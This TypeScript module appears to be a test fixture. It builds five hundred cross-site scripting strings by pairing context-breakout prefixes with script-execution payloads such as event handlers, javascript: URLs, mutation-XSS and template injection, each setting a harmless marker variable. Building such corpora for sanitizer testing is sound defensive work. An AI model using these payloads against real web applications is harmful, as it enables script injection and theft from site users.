// Five hundred texts that try to become something else than text: each way out of each context, with each way to act.

const MARK = 'globalThis.__hit=1';
const OUT_OF = [
  '',
  '"',
  "'",
  '`',
  '>',
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</style>',
  '</script>',
  '</svg>',
  '</textarea>',
  '</template>',
  '\u0000',
  '&quot;>',
  '%22%3E',
  '\\"',
  '\u2028',
];
const ACTS = [
  `<script>${MARK}</script>`,
  `<img src=x onerror=${MARK}>`,
  `<svg onload=${MARK}>`,
  `<svg><script>${MARK}</script></svg>`,
  `<svg><animate onbegin=${MARK} attributeName=x dur=1s>`,
  `<details open ontoggle=${MARK}>`,
  `<input autofocus onfocus=${MARK}>`,
  `<iframe srcdoc="<script>parent.__hit=1</script>">`,
  `<a href="javascript:${MARK}">x</a>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${MARK}>`,
  `<style>@import 'javascript:${MARK}'</style>`,
  `<base href="javascript:${MARK}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${MARK}">`,
  `<object data="javascript:${MARK}">`,
  `<form action="javascript:${MARK}"><button autofocus>x</button>`,
  `<body onpageshow=${MARK}>`,
  `<video><source onerror=${MARK}></video>`,
  ` onmouseover=${MARK} `,
  ` onfocus=${MARK} autofocus tabindex=1 x=`,
  `javascript:${MARK}`,
  `{{constructor.constructor('${MARK}')()}}`,
  '${' + MARK + '}',
  `<scr<script>ipt>${MARK}</scr</script>ipt>`,
  `&lt;script&gt;${MARK}&lt;/script&gt;`,
  `<plaintext><noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
];

export function hostileCorpus(): readonly string[] {
  return OUT_OF.flatMap((out) => ACTS.map((act) => `${out}${act}`));
}
